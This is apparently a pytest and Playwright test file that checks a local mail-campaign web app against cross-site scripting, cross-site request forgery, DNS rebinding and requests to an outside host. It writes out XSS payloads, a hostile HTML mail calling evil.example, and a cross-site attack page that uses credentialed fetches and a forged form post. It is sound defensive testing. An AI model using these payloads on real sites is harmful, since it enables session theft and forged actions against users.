"""What a browser alone can try: other sites and ports, frames, and scripts in what is shown.

Chromium is told that evil.example is this computer, as a name server of an attacker would.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Dialog, Frame, Page

from tests import mails
from tests.browser import chromium, person
from tests.cameback import came_back, drop, refers_to
from tests.desk import NICE, Desk, Y
from tests.servers.capture import CaptureServer
from tests.servers.certificates import Authority
from tests.webserver import Server, address, asked, here, serving

pytest_plugins = ["tests.servers.fixtures"]

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
EVIL = "evil.example"
HOSTILE_MAIL = """\
<html><head><meta http-equiv="refresh" content="0;url=http://evil.example:{port}/refresh">
<link rel="stylesheet" href="http://evil.example:{port}/style"><base href="http://evil.example/">
<style>body{{background:url(http://evil.example:{port}/css)}} @import "http://evil.example/i";
</style></head><body onload="alert(1)">Bonjour, ceci est une réponse.
<script>alert(1); top.location = "http://evil.example:{port}/top"</script>
<script src="http://evil.example:{port}/script"></script>
<img src="http://evil.example:{port}/pixel.png"><img src=x onerror="alert(1)">
<svg onload="alert(1)"><script>alert(1)</script></svg><math href="javascript:alert(1)">x</math>
<iframe src="http://evil.example:{port}/frame"></iframe><object data="javascript:alert(1)"></object>
<form action="http://evil.example:{port}/form"><input name="q" autofocus onfocus="alert(1)">
<button id="go">Cliquez</button></form>
<a id="link" href="javascript:alert(1)">ici</a> <a href="http://evil.example:{port}/link">là</a>
<video src="http://evil.example:{port}/video" poster="http://evil.example:{port}/poster"></video>
<div style="background-image:url('http://evil.example:{port}/div')">x</div>
</body></html>"""

ATTACK = """\
<!doctype html><title>evil</title><body><iframe id="framed" src="{victim}"></iframe>
<form id="form" method="post" action="{end}" target="answer"><input name="once" value="{once}">
</form><iframe name="answer"></iframe><script>
window.told = {{}};
const note = (name, made) => made.then(
  (value) => {{ told[name] = value }}, (error) => {{ told[name] = "refused" }});
window.done = Promise.all([
  note("cors", fetch("{victim}", {{credentials: "include"}}).then((a) => a.text())),
  note("opaque", fetch("{victim}", {{credentials: "include", mode: "no-cors"}})
    .then((a) => a.type)),
  note("post", fetch("{end}", {{method: "POST", credentials: "include", mode: "no-cors",
    headers: {{"Content-Type": "application/x-www-form-urlencoded"}}, body: "once={once}"}})
    .then((a) => a.type)),
  note("script", new Promise((yes, no) => {{ const it = document.createElement("script");
    it.src = "{script}"; it.onload = () => yes("ran"); it.onerror = no;
    document.body.append(it) }})),
  note("image", new Promise((yes, no) => {{ const it = new Image();
    it.onload = () => yes("seen"); it.onerror = no; it.src = "{victim}" }})),
  note("style", new Promise((yes, no) => {{ const it = document.createElement("link");
    it.rel = "stylesheet"; it.href = "{style}"; it.onload = () => yes("read"); it.onerror = no;
    document.head.append(it) }})),
]).then(() => {{ document.getElementById("form").submit() }});
</script></body>"""


PAGES: dict[str, str] = {}
ASKED: list[str] = []
"""What the attacker's server answers with, and what it was asked."""


class _Attacker(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        ASKED.append(self.path)
        body = PAGES.get(self.path, "").encode()
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Nothing: what was asked is in ASKED."""


@pytest.fixture(scope="module")
def attacker() -> Iterator[ThreadingHTTPServer]:
    """Another server of this computer, on another port."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Attacker)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def made(
    tmp_path_factory: pytest.TempPathFactory, authority: Authority, attacker: ThreadingHTTPServer
) -> Path:
    """A campaign of which every word that somebody else wrote is a script."""
    folder = tmp_path_factory.mktemp("scripts")
    (folder / "captured").mkdir()
    with (
        CaptureServer(folder=folder / "captured", authority=authority).running() as server,
        pytest.MonkeyPatch.context() as patch,
    ):
        patch.setenv("PUBLIPOSTAGE_HOME", str(folder / "home"))
        patch.setenv("PUBLIPOSTAGE_LANG", "en")
        patch.setenv("PUBLIPOSTAGE_PASSWORD", server.password)
        patch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring")
        desk = Desk(folder / "campaign")
        desk.make()
        rows = [f"{row};{SCRIPT}" for row in (NICE, Y)]
        header = "Code INSEE;Commune;Sexe;Prénom;Nom;Courriel;Adresse;Code postal;Ville"
        desk.ok("import", str(desk.sheet(*rows, header=f"{header};<b onclick=alert(1)>Notes")))
        desk.connect(server)
        desk.ok("send", "--really", "--yes", "--untested")
        html = HOSTILE_MAIL.format(port=attacker.server_port)
        plain = b"Content-Type: text/plain; charset=utf-8"
        found = [
            mails.answer(
                sender=f"{SCRIPT} <nice@example.org>", subject=SCRIPT, body=html,
                refers=refers_to(desk, "06088"), own_id="<1@example.org>",
            ).replace(plain, b"Content-Type: text/html; charset=utf-8"),
            mails.answer(
                sender=f"{SCRIPT} <y@example.com>", subject="ville de Y " + SCRIPT, refers="",
                body=f"Ne plus nous écrire {SCRIPT}", own_id="<2@example.org>",
            ),
            came_back(desk, "80829", "y@example.org", "5.1.1", f"550 5.1.1 {SCRIPT}"),
        ]  # fmt: skip
        desk.run("replies", "--yes", "--from", drop(desk, *found))
        desk.run("answer", "Nice", "yes", "--note", SCRIPT)
        settings = (desk.folder / "campaign.toml").read_text(encoding="utf-8")
        (desk.folder / "campaign.toml").write_text(
            settings.replace('name = "Pas de VSA"', f'name = "{SCRIPT}"'), encoding="utf-8"
        )
    return desk.folder


@pytest.fixture(scope="module")
def server(made: Path) -> Iterator[Server]:
    with serving(made.parent / "home", campaign=made) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium(EVIL) as started:
        yield started


def alerts_of(page: Page) -> list[str]:
    """What scripts say aloud from now on."""
    alerts: list[str] = []

    def alerted(dialog: Dialog) -> None:
        alerts.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", alerted)
    return alerts


def once_of(page: Page) -> str:
    return str(page.locator("header input[name=once]").get_attribute("value"))


def answered(frame: Frame) -> bool:
    return frame.name == "answer" and frame.url != "about:blank"


@pytest.mark.parametrize("host", ["127.0.0.1", EVIL], ids=["another port", "another site"])
def test_another_site_sees_frames_and_changes_nothing(browser, server, attacker, host):
    with person(browser, server.token(), language="en") as page:
        root = page.url.partition("c/1")[0]
        page.goto(f"{root}c/1/settings")  # from where it is ended
        PAGES["/attack"] = ATTACK.format(
            victim=page.url, end=f"{root}end", once=once_of(page),
            script=f"{root}static/htmx.min.js", style=f"{root}static/page.css",
        )  # fmt: skip
        evil = page.context.new_page()
        with evil.expect_event("framenavigated", answered):  # the last thing that it does
            evil.goto(f"http://{host}:{attacker.server_port}/attack")
        told = evil.evaluate("window.told")
        assert told == dict.fromkeys(
            ("cors", "opaque", "post", "script", "image", "style"), "refused"
        )
        framed = [frame for frame in evil.frames if frame != evil.main_frame]
        assert len(framed) == 2
        for frame in framed:
            assert "VSA" not in frame.content()
            assert "has ended" not in frame.content()
        assert server.process.poll() is None
        assert page.reload() is not None
        assert page.locator("h1").inner_text()


def test_a_link_from_another_site_leads_in_without_the_cookie(browser, server, attacker):
    with person(browser, server.token(), language="en") as page:
        PAGES["/link"] = f'<!doctype html><a href="{page.url}">here</a>'
        evil = page.context.new_page()
        evil.goto(f"http://{EVIL}:{attacker.server_port}/link")
        with evil.expect_navigation() as went:
            evil.locator("a").click()
        answer = went.value
        assert answer is not None
        assert answer.status in (401, 403)
        assert "Today" not in evil.content()


def test_a_name_that_leads_here_shows_nothing(browser, server):
    """DNS rebinding: the attacker's own name is this computer by now."""
    with person(browser, server.token(), language="en") as page:
        port, path = urlsplit(page.url).port, urlsplit(page.url).path
        evil = page.context.new_page()
        answer = evil.goto(f"http://{EVIL}:{port}{path}")
        assert answer is not None
        assert answer.status == 421
        assert "Today" not in evil.content()


def test_no_script_that_somebody_wrote_runs_and_nothing_outside_is_asked(
    browser, made, attacker, monkeypatch
):
    """Every page: names, cells, subjects, servers' words and mails with scripts in them."""
    monkeypatch.setenv("PUBLIPOSTAGE_HOME", str(made.parent / "home"))
    with here(made) as server, person(browser, server.start, language="en") as page:
        root = page.url.partition("c/1")[0]
        alerts = alerts_of(page)
        requests: list[str] = []
        page.on("request", lambda request: requests.append(request.url))
        ASKED.clear()
        shown = 0
        every = [
            address(route, number, form="csv")
            for route in asked("GET")
            for number in (1, 2)[: max(1, route.path.count("{"))]
        ]
        for at in (root + each for each in [*every, "c/1/inbox?kind=mail&open=mail-1"]):
            answer = page.request.get(at)
            is_page = answer.headers.get("content-type", "").startswith("text/html")
            if is_page and re.search(r"alert\(1\)|<iframe", answer.text()):
                page.goto(at, wait_until="domcontentloaded")
                shown += "alert(1)" in page.content()
        assert shown > 20  # what they wrote is shown, as text
        assert alerts == []
        assert ASKED == []
        assert [each for each in requests if not each.startswith((root, "data:"))] == []


def test_of_a_mail_nothing_but_words_is_on_its_page(browser, server, attacker):
    with person(browser, server.token(), language="en") as page:
        address = f"{page.url.partition('c/1')[0]}c/1/inbox?kind=mail&open=mail-1"
        alerts = alerts_of(page)
        ASKED.clear()
        page.goto(address, wait_until="networkidle")
        words = page.locator("pre.words")
        assert "ceci est une réponse" in words.inner_text()
        assert words.locator("*").count() == 0
        assert page.locator("iframe").count() == 0
        assert page.url == address
        assert alerts == []
        assert ASKED == []


def test_htmx_keeps_no_page_evaluates_nothing_and_puts_no_style_in(browser, server):
    with person(browser, server.token(), language="en") as page:
        page.wait_for_function("window.htmx")
        config = page.evaluate("htmx.config")
        assert config["historyCacheSize"] == 0
        assert config["allowEval"] is False
        assert config["includeIndicatorStyles"] is False
        assert config["selfRequestsOnly"] is True
        kept = page.evaluate("({...localStorage, ...sessionStorage})")
        assert not [each for each in kept.values() if "<" in each or "@" in each], kept
        assert page.evaluate("localStorage.length") == 0
        assert page.locator("style").count() == 0
        assert page.evaluate("document.cookie") == ""
